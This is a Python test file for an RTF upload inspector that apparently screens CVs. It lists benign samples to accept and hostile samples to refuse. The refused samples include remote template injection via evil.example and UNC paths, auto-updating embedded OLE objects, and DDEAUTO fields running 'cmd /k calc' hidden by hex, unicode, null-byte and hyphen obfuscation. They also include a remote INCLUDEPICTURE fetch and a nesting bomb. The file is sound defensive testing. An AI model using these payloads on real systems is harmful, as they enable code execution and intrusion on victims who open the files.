"""RTF documents."""

from models.documents.inspection.kinds import Reason
from tests import files

ACCEPTED = {
    "an rtf with a link": (
        "cv.rtf",
        files.rtf(extra=r'{\field{\*\fldinst{HYPERLINK "https://amina.example"}}{\fldrslt moi}}'),
    ),
    "an rtf made from a template of its writer": (
        "cv.rtf",
        files.rtf(extra=r"{\*\template C:\\Users\\Amina\\CV.dotx}"),
    ),
    "an rtf that names control words": ("cv.rtf", files.rtf(r"J'ai appris \objdata et \template {à l'école}")),
}

REFUSED = {
    Reason.EXTERNAL: {
        "rtf: template": ("cv.rtf", files.rtf(extra=r"{\*\template http://evil.example/x.dotm}")),
        "rtf: template in codes": ("cv.rtf", files.rtf(extra=r"{\*\template \'68\'74tp://evil.example/x.dotm}")),
        "rtf: template of a shared folder": ("cv.rtf", files.rtf(extra=r"{\*\template \\\\evil\\x.dotm}")),
        "rtf: object": ("cv.rtf", files.rtf(extra=r"{\object\objemb{\*\objdata 0105}}")),
        "rtf: data of an object alone": ("cv.rtf", files.rtf(extra=r"{{\*\objdata0105}}")),
        "rtf: object that opens itself": ("cv.rtf", files.rtf(extra=r"{\*\x\objupdate }")),
        "rtf: raw bytes": ("cv.rtf", files.rtf(extra=r"{\pict\bin4 }}}}}")),
        "rtf: DDE": ("cv.rtf", files.rtf(extra=r'{\field{\*\fldinst{\b D}{\i DE}{AUTO cmd "/k calc"}}}')),
        "rtf: DDE in codes": ("cv.rtf", files.rtf(extra=r"{\field{\*\fldinst \'44\'44E cmd x}}")),
        "rtf: DDE in other codes": ("cv.rtf", files.rtf(extra=r"{\field{\*\fldinst\uc0 \u68\u68\u69  cmd x}}")),
        "rtf: DDE cut by a star": ("cv.rtf", files.rtf(extra=r"{\field{\*\fldinst DD\*E cmd x}}")),
        "rtf: DDE cut by a line": ("cv.rtf", files.rtf(extra="{\\field{\\*\\fldinst D\r\nDE cmd x}}")),
        "rtf: DDE cut by a zero": ("cv.rtf", files.rtf(extra="{\\field{\\*\\fldinst D\0DE cmd x}}")),
        "rtf: DDE cut by a hyphen": ("cv.rtf", files.rtf(extra=r"{\field{\*\fldinst DDE\-AUTO cmd x}}")),
        "rtf: DDE inside a field": (
            "cv.rtf",
            files.rtf(extra=r"{\field{\*\fldinst IF {\field{\*\fldinst DDE cmd x}} = 1}}"),
        ),
        "rtf: picture field": (
            "cv.rtf",
            files.rtf(extra=r"{\field{\*\fldinst  INCLUDEPICTURE http://evil.example/p}}"),
        ),
    },
    Reason.BOMB: {
        "an rtf of empty groups": ("cv.rtf", files.rtf(extra="{}" * 160_000)),
    },
    Reason.DAMAGED: {
        "an rtf with a group left open": ("cv.rtf", files.rtf(extra="{")),
        "an rtf with something behind": ("cv.rtf", files.rtf() + b"MZ"),
    },
}
